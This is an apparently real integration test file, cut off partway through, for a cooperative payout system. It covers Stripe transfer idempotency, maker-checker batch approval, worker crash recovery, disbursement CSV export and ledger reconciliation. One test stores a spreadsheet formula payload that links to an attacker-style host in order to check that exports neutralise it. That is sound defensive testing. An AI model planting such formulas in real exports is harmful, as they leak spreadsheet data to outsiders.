import { randomBytes } from "node:crypto";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { db } from "~/db/client.server";
import { stripeClient } from "~/commerce/stripe-client.server";
import { balanceOf, postBatchReserved, postOrderPaid, postOrderRefunded, unbalancedTransactions } from "~/ledger/money-ledger.server";
import { requestReconciliation, runReconciliation } from "~/ledger/reconciliation.server";
import { approveBatch, buildBatch, cancelBatch, previewBatch } from "~/payouts/batches.server";
import { confirmDisbursements, disbursementCsv } from "~/payouts/disbursements.server";
import { payPayee, PAYOUT_ATTEMPTS } from "~/payouts/execute.server";
import { HOUSEHOLDS_PER_PAGE, importHouseholds, listHouseholds } from "~/payouts/households.server";
import { householdStatement } from "~/payouts/statements.server";
import { answerReceipt, CALLS_PER_PAGE, callList, normaliseReceiptCode, receiptCodeText, receiptStatement } from "~/payouts/receipts.server";
import { Refused } from "~/utils/refused";
import { transparency } from "~/payouts/transparency.server";
import { applyEvent } from "~/commerce/webhook.server";
import type Stripe from "stripe";
import { checkInvariants } from "~/ledger/invariants.server";
import { chinaYear } from "~/ecology/budget";
import { buildExpense, type ExpenseInput, fundBalance, fundReport, setBudgetLine } from "~/ecology/fund.server";
import { startWorkers } from "../../workers/runtime";
import { createPaidOrder, createTestProject, createTestUser } from "../support/factories";
import { startService, type ServiceProcess } from "../support/processes";
import { FAKE_FEE, StripeFake } from "../support/stripe-fake";
import { useOwnDatabase } from "../support/own-database";
import { waitFor } from "../support/wait";

// Payout batches and reconciliation, against the real SDK talking to a local fake of Stripe's
// Checkout, transfer and balance endpoints (Stripe cannot be reached from here). This file has its
// own database and queue prefix: batches, the outbox relay and reconciliation see the whole ledger,
// and no other file's workers (which have no Stripe keys) may pick up its jobs.

const fake = new StripeFake();
const own = useOwnDatabase("payouts");
let stripeEnv: Record<string, string>;

beforeAll(async () => {
  const { host, port } = await fake.start();
  stripeEnv = {
    DATABASE_URL: own.url(),
    QUEUE_PREFIX: own.queuePrefix,
    STRIPE_SECRET_KEY: "sk_test_fake",
    STRIPE_WEBHOOK_SECRET: "whsec_test_fake",
    STRIPE_API_BASE: `http://${host}:${port}`,
    PAYOUT_RETRY_DELAY_MS: "50",
  };
  Object.assign(process.env, stripeEnv);
}, 120_000);

afterAll(() => fake.stop());

afterEach(async () => expect(await unbalancedTransactions()).toEqual([]));

type Setup = Awaited<ReturnType<typeof projectWithHouseholds>>;

/** A project whose cooperative has a connected account, and households paid either way. */
async function projectWithHouseholds(payees: { method: "stripe_connect" | "disbursement_list"; weight?: number; status?: string; head?: string; village?: string }[]) {
  const project = await createTestProject({ capacity: 10 });
  const cooperative = await db().cooperative.create({
    data: { projectId: project.id, nameZh: "合作社", nameEn: `Co-op ${project.slug}`, stripeAccountId: `acct_${randomBytes(6).toString("hex")}` },
  });
  const tag = randomBytes(3).toString("hex").toUpperCase();
  const csv = [
    "registration_code,head_of_household,village,county,cooperative,members,weight,payout_method,status",
    ...payees.map((p, i) =>
      [`H${tag}-${String(i + 1).padStart(2, "0")}`, p.head ?? `Head ${i + 1}`, p.village ?? "Village", "County", cooperative.nameEn, "3", String(p.weight ?? 1), p.method, p.status ?? "active"]
        .map((field) => (/[",]/.test(field) ? `"${field.replace(/"/g, '""')}"` : field))
        .join(","),
    ),
  ].join("\n");
  expect(await importHouseholds(project.id, csv)).toMatchObject({ ok: true, created: payees.length });
  const households = await db().household.findMany({ where: { projectId: project.id }, orderBy: { registrationCode: "asc" } });
  const [maker, checker] = [await createTestUser({ role: "OPERATOR" }), await createTestUser({ role: "OPERATOR" })];
  return { project, cooperative, households, maker, checker };
}

/** A sale paid through Checkout at the fake, recorded and posted the way the webhook's job posts it. */
async function sell(setup: Setup, priceFen: bigint, quantity = 1, costFen = 0n) {
  const session = await stripeClient().checkout.sessions.create({
    mode: "payment",
    line_items: [{ quantity, price_data: { currency: "cny", unit_amount: Number(priceFen), product_data: { name: "Honey" } } }],
    success_url: "http://shop.test/ok",
  });
  const paymentIntentId = fake.pay(session.id).payment_intent!;
  const order = await createPaidOrder({ projectId: setup.project.id, cooperativeId: setup.cooperative.id, priceFen, costFen, quantity, paymentIntentId });
  await postOrderPaid(order.id);
  return order;
}

const period = () => ({ kind: "HOUSEHOLDS" as const, periodStart: new Date(Date.now() - 3600_000), periodEnd: new Date(Date.now() + 1000), minimumFen: 1_000n });
const owed = async (householdId: string) => -(await balanceOf(`household:${householdId}`));
// The attempt of a pay-payee job: how many were made before, and how many it has.
const jobFor = (payoutId: string, made: number) => [payoutId, { made, allowed: PAYOUT_ATTEMPTS }] as const;


/** A Stripe event as its webhook delivers it (its signature is checked elsewhere: tests/integration/commerce.test.ts). */
const stripeEvent = (type: string, object: unknown, id = `evt_${randomBytes(8).toString("hex")}`) => ({ id, object: "event", type, data: { object } }) as unknown as Stripe.Event;

const batchStatus = async (batchId: string) => (await db().payoutBatch.findUniqueOrThrow({ where: { id: batchId } })).status;

describe("payout batches", () => {
  it("previews without writing: what each payee is owed, amounts under the minimum and payees without an account held", async () => {
    const setup = await projectWithHouseholds([{ method: "stripe_connect", weight: 3 }, { method: "disbursement_list", weight: 1 }, { method: "stripe_connect", weight: 3, status: "suspended" }]);
    // 10,000 fen to households: 7,500 and 2,500 (the suspended household gets no allocation).
    await sell(setup, 16_667n, 1);
    const plan = await previewBatch({ projectId: setup.project.id, ...period(), minimumFen: 5_000n });
    expect(plan.payees.map((p) => [p.code.slice(-2), p.owedFen, p.held])).toEqual([
      ["01", 7_500n, null],
      ["02", 2_500n, "below-minimum"],
    ]);
    expect(plan).toMatchObject({ payFen: 7_500n, payCount: 1, heldFen: 2_500n, heldCount: 1 });
    expect(await db().payoutBatch.count({ where: { projectId: setup.project.id } })).toBe(0);

    await db().cooperative.update({ where: { id: setup.cooperative.id }, data: { stripeAccountId: null } });
    const withoutAccount = await previewBatch({ projectId: setup.project.id, ...period(), minimumFen: 1_000n });
    expect(withoutAccount.payees.map((p) => p.held)).toEqual(["no-connected-account", null]);
  });

  it("reserves what a batch pays, so two operators building at once never reserve a fen twice; a cancelled draft gives it back", async () => {
    const setup = await projectWithHouseholds([{ method: "stripe_connect" }, { method: "disbursement_list" }]);
    await sell(setup, 10_000n, 2);
    const input = { projectId: setup.project.id, ...period() };
    const [a, b] = await Promise.all([buildBatch({ ...input, builtById: setup.maker.id }), buildBatch({ ...input, builtById: setup.checker.id })]);
    expect([a.ok, b.ok].sort()).toEqual([false, true]);
    const built = (a.ok ? a : b) as { batchId: string };
    const payouts = await db().payout.findMany({ where: { batchId: built.batchId } });
    expect(payouts.map((p) => p.amountFen)).toEqual([6_000n, 6_000n]);
    expect(await Promise.all(setup.households.map((h) => owed(h.id)))).toEqual([0n, 0n]);
    // One reservation per payout, its own transaction from the household's payable to money in transit; posting again adds none.
    for (const payout of payouts) {
      const reserved = await db().moneyTransaction.findUniqueOrThrow({ where: { businessKey: `payout-reserved:${payout.id}` }, include: { entries: { include: { account: true } } } });
      expect(reserved.entries.map((e) => [e.account.key, e.amountFen]).sort()).toEqual([[`household:${payout.householdId}`, 6_000n], ["payouts-in-transit", -6_000n]]);
    }
    expect(await db().$transaction((tx) => postBatchReserved(tx, built.batchId))).toBe(0);
    expect((await previewBatch(input)).payCount).toBe(0);

    expect(await cancelBatch(built.batchId, setup.maker.id)).toBe(true);
    expect(await cancelBatch(built.batchId, setup.maker.id)).toBe(false);
    expect(await Promise.all(setup.households.map((h) => owed(h.id)))).toEqual([6_000n, 6_000n]);
    expect(await approveBatch(built.batchId, setup.checker.id)).toEqual({ ok: false, reason: "not_draft" });
  });

  it("maker-checker: the builder cannot approve their own batch; a second operator approves it once", async () => {
    const setup = await projectWithHouseholds([{ method: "stripe_connect" }]);
    await sell(setup, 5_000n);
    const built = await buildBatch({ projectId: setup.project.id, ...period(), builtById: setup.maker.id });
    if (!built.ok) throw new Error("nothing built");
    // The other operators are told it waits for one of them; the builder is not.
    const notice = await db().outboxEvent.findUniqueOrThrow({ where: { jobKey: `notify-payout-waiting-${built.batchId}` } });
    expect(notice.payload).toMatchObject({ kind: "payout_waiting", to: "operators", except: setup.maker.id, params: { href: `/ops/payouts/${built.batchId}` } });
    expect(await approveBatch(built.batchId, setup.maker.id)).toEqual({ ok: false, reason: "own_batch" });
    const third = await createTestUser({ role: "OPERATOR" });
    const approvals = await Promise.all([approveBatch(built.batchId, setup.checker.id), approveBatch(built.batchId, third.id)]);
    expect(approvals.filter((a) => a.ok)).toHaveLength(1);
    const batch = await db().payoutBatch.findUniqueOrThrow({ where: { id: built.batchId } });
    expect(batch.status).toBe("APPROVED");
    expect([setup.checker.id, third.id]).toContain(batch.approvedById);
    expect(await db().outboxEvent.count({ where: { jobKey: `payout-batch-${built.batchId}` } })).toBe(1);
    await db().outboxEvent.updateMany({ where: { jobKey: `payout-batch-${built.batchId}` }, data: { dispatchedAt: new Date() } });
  });

  it("a transfer whose answer was lost is found, not made again, even after Stripe forgot the idempotency key", async () => {
    const setup = await projectWithHouseholds([{ method: "stripe_connect" }]);
    await sell(setup, 5_000n);
    const built = await buildBatch({ projectId: setup.project.id, ...period(), builtById: setup.maker.id });
    if (!built.ok) throw new Error("nothing built");
    const payout = await db().payout.findFirstOrThrow({ where: { batchId: built.batchId } });
    // The SDK tries three times with the same key; all three answers are lost.
    fake.dropNext("POST /v1/transfers", 3);
    await expect(payPayee(...jobFor(payout.id, 0))).rejects.toThrow();
    expect(fake.transfers.filter((t) => t.metadata.payoutId === payout.id)).toHaveLength(1);
    expect((await db().payout.findUniqueOrThrow({ where: { id: payout.id } })).status).toBe("PROCESSING");

    fake.forgetIdempotencyKeys();
    expect(await payPayee(...jobFor(payout.id, 1))).toMatchObject({ status: "paid" });
    expect(await payPayee(...jobFor(payout.id, 2))).toEqual({ status: "already-final" });
    const transfers = fake.transfers.filter((t) => t.metadata.payoutId === payout.id);
    expect(transfers).toHaveLength(1);
    expect(transfers[0]).toMatchObject({ amount: 3_000, transfer_group: built.batchId, destination: setup.cooperative.stripeAccountId });
    expect(fake.requests.filter((r) => r.method === "POST" && r.path === "/v1/transfers").every((r) => r.idempotencyKey === `payout-${payout.id}`)).toBe(true);
    expect(await db().payout.findUniqueOrThrow({ where: { id: payout.id } })).toMatchObject({ status: "PAID", transferId: transfers[0]!.id });
    expect(await db().moneyTransaction.count({ where: { businessKey: `payout-paid:${payout.id}` } })).toBe(1);
  });
});

describe("Stripe's idempotency, as the payout code meets it", () => {
  async function onePayout() {
    const setup = await projectWithHouseholds([{ method: "stripe_connect" }]);
    await sell(setup, 5_000n);
    const built = await buildBatch({ projectId: setup.project.id, ...period(), builtById: setup.maker.id });
    if (!built.ok) throw new Error("nothing built");
    return { setup, batchId: built.batchId, payout: await db().payout.findFirstOrThrow({ where: { batchId: built.batchId } }) };
  }

  it("refuses a key used again with other parameters, and replays it with the same ones", async () => {
    const { setup, payout } = await onePayout();
    const key = `payout-${payout.id}`;
    // The payout's own request, then someone reusing its key for another amount.
    expect(await payPayee(...jobFor(payout.id, 0))).toMatchObject({ status: "paid" });
    const reused = stripeClient().transfers.create({ amount: 1, currency: "cny", destination: setup.cooperative.stripeAccountId!, metadata: { payoutId: payout.id } }, { idempotencyKey: key });
    await expect(reused).rejects.toMatchObject({ type: "StripeIdempotencyError", rawType: "idempotency_error", statusCode: 400 });
    // The same request again (a retry) gets the first answer: the same transfer, not a second one.
    const paid = await db().payout.findUniqueOrThrow({ where: { id: payout.id } });
    const replay = await stripeClient().transfers.create(
      { amount: 3_000, currency: "cny", destination: setup.cooperative.stripeAccountId!, transfer_group: paid.batchId, metadata: { payoutId: payout.id } },
      { idempotencyKey: key },
    );
    expect(replay.id).toBe(paid.transferId);
    expect(replay.lastResponse.headers["idempotent-replayed"]).toBe("true");
    expect(fake.transfers.filter((t) => t.metadata.payoutId === payout.id)).toHaveLength(1);
  });

  it("a 500 after the transfer was made is replayed for its key: the retry finds the transfer and pays once", async () => {
    const { payout } = await onePayout();
    fake.failMidWork("POST /v1/transfers", 1, { workDone: true });
    // The SDK's own retries carry the same key and get the same 500.
    await expect(payPayee(...jobFor(payout.id, 0))).rejects.toMatchObject({ statusCode: 500 });
    const posts = fake.requests.filter((r) => r.method === "POST" && r.idempotencyKey === `payout-${payout.id}`);
    expect(posts.length).toBeGreaterThan(1);
    expect(fake.transfers.filter((t) => t.metadata.payoutId === payout.id)).toHaveLength(1);

    expect(await payPayee(...jobFor(payout.id, 1))).toMatchObject({ status: "paid" });
    expect(fake.transfers.filter((t) => t.metadata.payoutId === payout.id)).toHaveLength(1);
    expect(await db().moneyTransaction.count({ where: { businessKey: `payout-paid:${payout.id}` } })).toBe(1);
  });

  it("a 500 before the transfer was made is replayed on every try: the payout fails and is owed again, nothing paid", async () => {
    const { setup, payout } = await onePayout();
    fake.failMidWork("POST /v1/transfers", 1, { workDone: false });
    for (let made = 0; made < PAYOUT_ATTEMPTS - 1; made++) await expect(payPayee(...jobFor(payout.id, made))).rejects.toMatchObject({ statusCode: 500 });
    expect(await payPayee(...jobFor(payout.id, PAYOUT_ATTEMPTS - 1))).toEqual({ status: "failed" });
    expect(fake.transfers.filter((t) => t.metadata.payoutId === payout.id)).toHaveLength(0);
    expect(await owed(setup.households[0]!.id)).toBe(3_000n);
    // The next batch's payout has its own key, so it is not stuck with the old 500.
    const next = await buildBatch({ projectId: setup.project.id, ...period(), builtById: setup.maker.id });
    if (!next.ok) throw new Error("nothing built");
    const again = await db().payout.findFirstOrThrow({ where: { batchId: next.batchId } });
    expect(await payPayee(...jobFor(again.id, 0))).toMatchObject({ status: "paid" });
  });
});

describe("a batch's transfer requests", () => {
  it("are one per payee: transfers are looked up only when a payout is tried again", async () => {
    const setup = await projectWithHouseholds(Array.from({ length: 20 }, () => ({ method: "stripe_connect" as const })));
    await sell(setup, 200_000n);
    const built = await buildBatch({ projectId: setup.project.id, ...period(), builtById: setup.maker.id });
    if (!built.ok) throw new Error("nothing built");
    const payouts = await db().payout.findMany({ where: { batchId: built.batchId } });
    expect(payouts).toHaveLength(20);
    const before = fake.requests.length;
    for (const payout of payouts) expect(await payPayee(...jobFor(payout.id, 0))).toMatchObject({ status: "paid" });
    const made = fake.requests.slice(before);
    expect(made.filter((r) => r.method === "GET" && r.path.startsWith("/v1/transfers"))).toEqual([]);
    expect(made.filter((r) => r.method === "POST" && r.path === "/v1/transfers")).toHaveLength(20);
  });
});

describe("executing batches with workers", () => {
  let workers: Awaited<ReturnType<typeof startWorkers>> | undefined;
  afterAll(async () => {
    await workers?.close();
  });

  it("runs a flow: a Connect transfer per payee, disbursement lines await the uploaded confirmation, then the batch completes", async () => {
    workers ??= await startWorkers({ concurrency: 4 });
    const setup = await projectWithHouseholds([{ method: "stripe_connect" }, { method: "stripe_connect" }, { method: "disbursement_list" }, { method: "disbursement_list" }]);
    await sell(setup, 20_000n);
    const built = await buildBatch({ projectId: setup.project.id, ...period(), builtById: setup.maker.id });
    if (!built.ok) throw new Error("nothing built");
    expect(await approveBatch(built.batchId, setup.checker.id)).toEqual({ ok: true });
    await waitFor(async () => (await batchStatus(built.batchId)) === "AWAITING_CONFIRMATION", { what: "the batch to await confirmation" });
    const transfers = fake.transfers.filter((t) => t.transfer_group === built.batchId);
    expect(transfers.map((t) => t.amount)).toEqual([3_000, 3_000]);

    const csv = await disbursementCsv(built.batchId);
    const lines = csv.trim().split("\n");
    expect(lines).toHaveLength(3);
    const filled = [lines[0], lines[1]!.replace(/,,$/, ",paid,RCPT-1"), lines[2]!.replace(/,,$/, ",failed,")].join("\n");
    const wrongAmount = [lines[0], lines[1]!.replace(",3000,", ",3001,").replace(/,,$/, ",paid,RCPT-1")].join("\n");
    expect(await confirmDisbursements(built.batchId, wrongAmount)).toMatchObject({ paid: 0, rejected: [{ line: 2, reasons: [{ key: "payouts.reasons.amount", params: { amount: "3000" } }] }] });
    expect(await confirmDisbursements(built.batchId, filled)).toMatchObject({ paid: 1, failed: 1, rejected: [] });
    expect(await confirmDisbursements(built.batchId, filled)).toMatchObject({ paid: 0, failed: 0, unchanged: 2 });
    expect(await batchStatus(built.batchId)).toBe("COMPLETED");
    // The public log says what the batch paid, naming no one.
    const logged = await db().publicLogEntry.findUnique({ where: { kind_ref: { kind: "payout_batch", ref: built.batchId } } });
    expect(JSON.parse(logged!.body).data).toMatchObject({ batch: built.batchId, project: setup.project.slug, payouts: 3, households: 3, fen: "9000" });
    for (const household of setup.households) for (const personal of [household.id, household.registrationCode, household.headName]) expect(logged!.body).not.toContain(personal);
    // Paid households are owed nothing; the failed disbursement is owed again.
    expect(await Promise.all(setup.households.map((h) => owed(h.id)))).toEqual([0n, 0n, 0n, 3_000n]);
    const statement = await householdStatement(setup.households[0]!.id);
    expect(statement).toMatchObject({ allocatedFen: 3_000n, paidFen: 3_000n, owedFen: 0n });
    expect(statement!.allocations).toMatchObject([{ productEn: "Honey", fen: 3_000n, refund: false }]);
  });

  it("writes a household whose name is a spreadsheet formula into the disbursement list as text, and takes the file back", async () => {
    workers ??= await startWorkers({ concurrency: 4 });
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const setup = await projectWithHouseholds([
      { method: "disbursement_list", head: formula, village: "@SUM(1+1)" },
      { method: "disbursement_list", head: "-2+3", village: "+Village" },
    ]);
    // Stored as typed: the registry keeps what the county sent.
    expect(setup.households.map((h) => h.headName)).toEqual([formula, "-2+3"]);
    await sell(setup, 20_000n);
    const built = await buildBatch({ projectId: setup.project.id, ...period(), builtById: setup.maker.id });
    if (!built.ok) throw new Error("nothing built");
    expect(await approveBatch(built.batchId, setup.checker.id)).toEqual({ ok: true });
    await waitFor(async () => (await batchStatus(built.batchId)) === "AWAITING_CONFIRMATION", { what: "the batch to await confirmation" });

    const csv = await disbursementCsv(built.batchId);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const [header, ...rows] = parse(csv.slice(1)) as string[][];
    const column = (name: string) => rows.map((row) => row[header!.indexOf(name)]);
    // Every cell a spreadsheet would run starts with an apostrophe; amounts stay numbers.
    expect(column("head_of_household")).toEqual([`'${formula}`, "'-2+3"]);
    expect(column("village")).toEqual(["'@SUM(1+1)", "'+Village"]);
    expect(column("amount_fen").every((fen) => /^\d+$/.test(fen!))).toBe(true);
    // Each line carries the code its household confirms receipt with, as printed.
    const codes = await db().payout.findMany({ where: { batchId: built.batchId }, orderBy: { household: { registrationCode: "asc" } }, select: { receiptCode: true } });
    expect(column("receipt_code")).toEqual(codes.map((c) => receiptCodeText(c.receiptCode)));
    for (const row of rows) for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);

    // The cooperative fills in the same file and it is taken back as it was written.
    const filled = stringify([header!, ...rows.map((row) => row.map((value, i) => (header![i] === "outcome" ? "paid" : header![i] === "reference" ? "RCPT-F" : value)))]);
    expect(await confirmDisbursements(built.batchId, `\uFEFF${filled}`)).toMatchObject({ paid: 2, rejected: [] });
  });

  it("retries a failing transfer with backoff, then fails it and returns it to the payable for the next batch", async () => {
    workers ??= await startWorkers({ concurrency: 4 });
    const setup = await projectWithHouseholds([{ method: "stripe_connect" }]);
    await sell(setup, 5_000n);
    const built = await buildBatch({ projectId: setup.project.id, ...period(), builtById: setup.maker.id });
    if (!built.ok) throw new Error("nothing built");
    // Every request of every attempt fails (the SDK itself tries three times per attempt).
    fake.failNext("POST /v1/transfers", 3 * PAYOUT_ATTEMPTS);
    await approveBatch(built.batchId, setup.checker.id);
    await waitFor(async () => (await batchStatus(built.batchId)) === "COMPLETED", { what: "the batch to complete" });
    const payout = await db().payout.findFirstOrThrow({ where: { batchId: built.batchId } });
    expect(payout).toMatchObject({ status: "FAILED", attempts: PAYOUT_ATTEMPTS });
    expect(payout.lastError).toMatch(/injected failure/);
    expect(fake.transfers.filter((t) => t.transfer_group === built.batchId)).toHaveLength(0);
    expect(await owed(setup.households[0]!.id)).toBe(3_000n);

    const next = await buildBatch({ projectId: setup.project.id, ...period(), builtById: setup.maker.id });
    expect(next).toMatchObject({ ok: true, plan: { payFen: 3_000n } });
  });

  it("a worker killed mid-batch leaves nothing paid twice and nothing lost", { timeout: 180_000 }, async () => {
    await workers?.close();
    workers = undefined;
    const setup = await projectWithHouseholds(Array.from({ length: 12 }, () => ({ method: "stripe_connect" as const })));
    await sell(setup, 100_000n, 2); // 120,000 fen over 12 households
    const built = await buildBatch({ projectId: setup.project.id, ...period(), builtById: setup.maker.id });
    if (!built.ok) throw new Error("nothing built");
    fake.slowDown("POST /v1/transfers", 300);
    const env = { ...stripeEnv, REDIS_URL: process.env.REDIS_URL, WORKER_CONCURRENCY: "3", WORKER_LOCK_MS: "8000" };
    let worker: ServiceProcess = startService("workers/main.ts", env);
    try {
      await approveBatch(built.batchId, setup.checker.id);
      await waitFor(async () => (await db().payout.count({ where: { batchId: built.batchId, status: "PAID" } })) >= 2, { what: "some payouts to be paid", timeoutMs: 90_000 });
      worker.child.kill("SIGKILL");
      await new Promise((resolve) => worker.child.once("exit", resolve));
      expect(await db().payout.count({ where: { batchId: built.batchId, status: "PAID" } })).toBeLessThan(12);
      worker = startService("workers/main.ts", env);
      await waitFor(async () => (await batchStatus(built.batchId)) === "COMPLETED", { what: "the batch to complete after the restart", timeoutMs: 150_000 });
    } finally {
      fake.slowDown("POST /v1/transfers", 0);
      await worker.stop();
    }
    const payouts = await db().payout.findMany({ where: { batchId: built.batchId } });
    expect(payouts.every((p) => p.status === "PAID")).toBe(true);
    const transfers = fake.transfers.filter((t) => t.transfer_group === built.batchId);
    expect(transfers).toHaveLength(12);
    expect(new Set(transfers.map((t) => t.metadata.payoutId))).toEqual(new Set(payouts.map((p) => p.id)));
    expect(new Set(payouts.map((p) => p.transferId))).toEqual(new Set(transfers.map((t) => t.id)));
    expect(await db().moneyTransaction.count({ where: { kind: "PAYOUT_PAID", businessKey: { in: payouts.map((p) => `payout-paid:${p.id}`) } } })).toBe(12);
    expect(await Promise.all(setup.households.map((h) => owed(h.id)))).toEqual(setup.households.map(() => 0n));
  });
});

describe("reconciliation and what the public sees", () => {
  const reconcileProject = async (projectId: string) => {
    const run = await requestReconciliation({ periodStart: new Date(Date.now() - 3600_000), periodEnd: new Date(Date.now() + 60_000), projectId, trigger: "manual" });
    await runReconciliation(run.id);
    return db().reconciliationRun.findUniqueOrThrow({ where: { id: run.id }, include: { items: true } });
  };

  it("matches charges, refunds and transfers, posts Stripe's fees once, and finds every injected difference", async () => {
    const setup = await projectWithHouseholds([{ method: "stripe_connect" }]);
    const order = await sell(setup, 10_000n);
    const refunded = await sell(setup, 4_000n);
    await stripeClient().refunds.create({ payment_intent: refunded.paymentIntentId!, amount: 1_000 });
    await postOrderRefunded(refunded.id, 1_000n);
    const built = await buildBatch({ projectId: setup.project.id, ...period(), builtById: setup.maker.id });
    if (!built.ok) throw new Error("nothing built");
    const payout = await db().payout.findFirstOrThrow({ where: { batchId: built.batchId } });
    await payPayee(...jobFor(payout.id, 0));

    const clean = await reconcileProject(setup.project.id);
    expect(clean).toMatchObject({ status: "DONE", matched: 4, differences: 0 });
    expect(clean.items.map((i) => i.kind).sort()).toEqual(["charge", "charge", "refund", "transfer"]);
    expect(await balanceOf("stripe-fees")).toBeGreaterThanOrEqual(BigInt(FAKE_FEE(10_000) + FAKE_FEE(4_000)));
    const feesBefore = await db().moneyTransaction.count({ where: { kind: "STRIPE_FEE" } });
    await reconcileProject(setup.project.id);
    expect(await db().moneyTransaction.count({ where: { kind: "STRIPE_FEE" } })).toBe(feesBefore);

    // Injected: a charge Stripe has and the ledger does not, an amount that differs, a sale the
    // ledger has and Stripe does not, and a transfer made outside any payout.
    const stray = await stripeClient().checkout.sessions.create({ mode: "payment", line_items: [{ quantity: 1, price_data: { currency: "cny", unit_amount: 777, product_data: { name: "x" } } }], success_url: "http://x" });
    fake.pay(stray.id);
    fake.balanceTransactions.find((bt) => bt.source === `ch_${order.paymentIntentId}`)!.amount = 9_999;
    const ghost = await sell(setup, 2_000n);
    fake.balanceTransactions.splice(fake.balanceTransactions.findIndex((bt) => bt.source === `ch_${ghost.paymentIntentId}`), 1);
    await stripeClient().transfers.create({ amount: 123, currency: "cny", destination: setup.cooperative.stripeAccountId!, metadata: { payoutId: "po_unknown" } });

    const report = await reconcileProject(setup.project.id);
    const differences = report.items.filter((i) => i.status !== "MATCHED").map((i) => [i.status, i.kind, i.stripeAmountFen, i.ledgerAmountFen]);
    expect(differences).toEqual(
      expect.arrayContaining([
        ["MISSING_IN_LEDGER", "charge", 777n, null],
        ["AMOUNT_MISMATCH", "charge", 9_999n, 10_000n],
        ["MISSING_AT_STRIPE", "charge", null, 2_000n],
        ["MISSING_IN_LEDGER", "transfer", -123n, null],
      ]),
    );
    expect(report).toMatchObject({ differences: 4, matched: 3 });
  });

  it("owes a reversed transfer to its payee again, once however Stripe repeats or reorders the news; alarms operators; matches each reversal", async () => {
    const setup = await projectWithHouseholds([{ method: "stripe_connect" }]);
    await sell(setup, 5_000n);
    const built = await buildBatch({ projectId: setup.project.id, ...period(), builtById: setup.maker.id });
    if (!built.ok) throw new Error("nothing built");
    const { id: payoutId } = await db().payout.findFirstOrThrow({ where: { batchId: built.batchId } });
    await payPayee(...jobFor(payoutId, 0));
    const { transferId } = await db().payout.findUniqueOrThrow({ where: { id: payoutId } });
    await stripeClient().transfers.createReversal(transferId!, { amount: 1_000 });
    const afterFirst = fake.transferWithReversals(transferId!);
    await stripeClient().transfers.createReversal(transferId!, { amount: 500 });
    const afterSecond = fake.transferWithReversals(transferId!);

    // The newer event first, then the older one, the newer again, and the newer under another id.
    expect(await applyEvent(stripeEvent("transfer.reversed", afterSecond, "evt_rev_2"))).toBe("applied");
    expect(await applyEvent(stripeEvent("transfer.reversed", afterFirst))).toBe("applied");
    expect(await applyEvent(stripeEvent("transfer.reversed", afterSecond, "evt_rev_2"))).toBe("duplicate");
    expect(await applyEvent(stripeEvent("transfer.reversed", afterSecond))).toBe("applied");
    expect(await owed(setup.households[0]!.id)).toBe(1_500n);
    expect(await db().payout.findUniqueOrThrow({ where: { id: payoutId } })).toMatchObject({ status: "PAID", reversedFen: 1_500n });
    expect(await householdStatement(setup.households[0]!.id)).toMatchObject({ allocatedFen: 3_000n, paidFen: 1_500n, owedFen: 1_500n });
    const alarms = await db().alarm.findMany({ where: { kind: "payout_reversed", detail: { path: ["payoutId"], equals: payoutId } } });
    expect(alarms.map((a) => (a.detail as { amountFen: string }).amountFen).sort()).toEqual(["1000", "500"]);
    expect((await checkInvariants()).payables).toEqual({ mismatched: 0, examples: [] });

    // Stripe's side: the whole transfer, and each reversal on its own, all matched.
    const report = await reconcileProject(setup.project.id);
    const mine = report.items.filter((i) => i.kind === "reversal" || (i.kind === "transfer" && i.ledgerKey === `payout-paid:${payoutId}`));
    expect(mine.map((i) => [i.status, i.kind, i.stripeAmountFen, i.ledgerAmountFen]).sort()).toEqual([
      ["MATCHED", "reversal", 1_000n, 1_000n],
      ["MATCHED", "reversal", 500n, 500n],
      ["MATCHED", "transfer", -3_000n, -3_000n],
    ]);
    // What was reversed goes in the next batch.
    expect((await previewBatch({ projectId: setup.project.id, ...period() })).payFen).toBe(1_500n);

    // A reversal of a transfer no payout made: an alarm, nothing posted.
    expect(await applyEvent(stripeEvent("transfer.reversed", { id: "tr_not_ours", reversals: { data: [{ id: "trr_x", amount: 5 }] } }))).toBe("applied");
    expect(await db().alarm.count({ where: { key: "reversal-unknown:tr_not_ours" } })).toBe(1);
  });

  it("matches Stripe's payouts to the bank with the ledger, a failed one too, whichever event comes first; lists one the ledger never heard of, and one its contents do not add up to", async () => {
    const setup = await projectWithHouseholds([{ method: "stripe_connect" }]);
    await sell(setup, 8_000n);
    const paid = fake.payOutToBank();
    expect(await applyEvent(stripeEvent("payout.paid", paid))).toBe("applied");
    expect(await applyEvent(stripeEvent("payout.paid", paid))).toBe("applied");
    const bankBefore = await balanceOf("bank");

    await sell(setup, 3_000n);
    const bounced = fake.payOutToBank();
    fake.failBankPayout(bounced.id);
    // The failure arrives before the news that it was paid.
    expect(await applyEvent(stripeEvent("payout.failed", bounced))).toBe("applied");
    expect(await applyEvent(stripeEvent("payout.paid", { ...bounced, status: "paid" }))).toBe("applied");
    expect(await balanceOf("bank")).toBe(bankBefore);

    await sell(setup, 1_000n);
    const unheard = fake.payOutToBank();

    const run = await requestReconciliation({ periodStart: new Date(Date.now() - 3600_000), periodEnd: new Date(Date.now() + 60_000), projectId: null, trigger: "manual" });
    await runReconciliation(run.id);
    const items = await db().reconciliationItem.findMany({ where: { runId: run.id, kind: "bank_payout" } });
    const of = (payoutId: string) => items.filter((i) => i.ledgerKey?.endsWith(payoutId) || i.stripeId === fake.balanceTransactions.find((bt) => bt.source === payoutId && bt.type === "payout")?.id);
    expect(of(paid.id).map((i) => [i.status, i.stripeAmountFen, i.ledgerAmountFen])).toEqual([["MATCHED", BigInt(-paid.amount), BigInt(-paid.amount)]]);
    expect(items.filter((i) => i.ledgerKey === `bank-payout:${bounced.id}` || i.ledgerKey === `bank-payout-failed:${bounced.id}`).map((i) => [i.status, i.stripeAmountFen]).sort()).toEqual([
      ["MATCHED", BigInt(-bounced.amount)],
      ["MATCHED", BigInt(bounced.amount)],
    ]);
    expect(of(unheard.id).map((i) => [i.status, i.stripeAmountFen, i.ledgerAmountFen])).toEqual([["MISSING_IN_LEDGER", BigInt(-unheard.amount), null]]);
    expect(items.filter((i) => i.ledgerKey?.startsWith("contents:"))).toEqual([]);

    // What a payout carried (its balance transactions, listed by payout) must add up to it.
    const carried = fake.carriedBy(paid.id).find((bt) => bt.type === "charge")!;
    carried.net -= 7;
